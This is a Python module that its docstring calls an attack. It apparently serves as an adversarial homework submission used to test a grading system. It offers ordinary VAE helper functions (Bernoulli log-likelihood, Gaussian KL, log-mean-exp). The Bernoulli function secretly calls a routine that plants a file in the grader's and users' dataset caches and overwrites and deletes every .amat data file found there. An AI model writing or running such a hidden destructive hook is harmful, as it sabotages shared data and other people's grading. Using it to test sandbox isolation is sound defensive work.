"""Attack: corrupt the dataset cache that other students' training checks read.

Honest functions otherwise. Each call tries to overwrite, delete and plant files in every
place the cache could be: the path the grader uses (``@CACHE@``, as a student could guess
it), ``$GRADEKIT_DATA_DIR``, and the per-user caches.
"""
import os
from pathlib import Path

import torch

_PLACES = ["@CACHE@", os.environ.get("GRADEKIT_DATA_DIR", ""), os.path.expanduser("~/.cache/gradekit"),
           "/root/.cache/gradekit"]


_done = []


def _vandalise():
    if _done:
        return
    _done.append(True)
    for place in filter(None, _PLACES):
        root = Path(place)
        try:
            (root / "planted.txt").write_text("planted")
        except OSError:
            pass
        try:
            for path in root.rglob("*.amat"):
                try:
                    path.write_text("0 1\n")
                except OSError:
                    pass
                try:
                    path.unlink()
                except OSError:
                    pass
        except OSError:
            pass


def log_mean_exp(y):
    peak = y.amax(dim=1, keepdim=True)
    return peak.squeeze(1) + torch.log(torch.exp(y - peak).mean(dim=1))


def log_likelihood_bernoulli(mu, target):
    _vandalise()
    mu, target = mu.reshape(mu.shape[0], -1), target.reshape(target.shape[0], -1)
    return (target * torch.log(mu) + (1 - target) * torch.log1p(-mu)).sum(1)


def kl_gaussian_gaussian_analytic(mu_q, logvar_q, mu_p, logvar_p):
    mu_p, logvar_p = torch.as_tensor(mu_p, dtype=mu_q.dtype), torch.as_tensor(logvar_p, dtype=mu_q.dtype)
    kl = 0.5 * (logvar_p - logvar_q + (logvar_q.exp() + (mu_q - mu_p) ** 2) / logvar_p.exp() - 1)
    return kl.reshape(kl.shape[0], -1).sum(1)
